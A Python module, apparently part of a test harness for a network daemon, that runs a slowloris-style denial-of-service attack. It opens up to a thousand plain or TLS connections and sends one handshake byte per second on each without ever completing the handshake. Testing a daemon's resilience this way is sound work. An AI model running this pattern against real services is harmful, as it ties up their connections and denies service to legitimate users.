"""A thousand connections that each say a byte a second of what a handshake is."""

import itertools
import time

import wire
from target import Cut

WAYS = ("plain", "tls")
BRIEF_WAYS = ("plain", "tls")
SILENT = True
FLOOR = {"connections": 50}
CONNECTIONS = 1000
EACH_TURN = 100
STEP_S = 1.0


def attack(target):
    words = target.client_hello() if target.tls else wire.greeting()
    numbers = itertools.count()
    # When its turn is next, how much it has said, and itself.
    slow = []
    while True:
        target.left()
        now = time.monotonic()
        for _ in range(min(EACH_TURN, CONNECTIONS - len(slow))):
            try:
                slow.append([now, 0, target.socket(next(numbers))])
            except Cut as cut:
                target.cut(cut)
                break
        slow = [entry for entry in slow if entry[0] > now or say_a_byte(target, words, entry)]
        time.sleep(min(target.left(), 0.02))


def say_a_byte(target, words, entry):
    _, said, sock = entry
    try:
        # Stops before the last: who is done is slow no longer.
        sock.send(words[min(said, len(words) - 2):][:1])
    except BlockingIOError:
        pass
    except OSError:
        sock.close()
        target.count("closed by the daemon")
        return False
    target.count("bytes")
    entry[0] += STEP_S
    entry[1] += 1
    return True
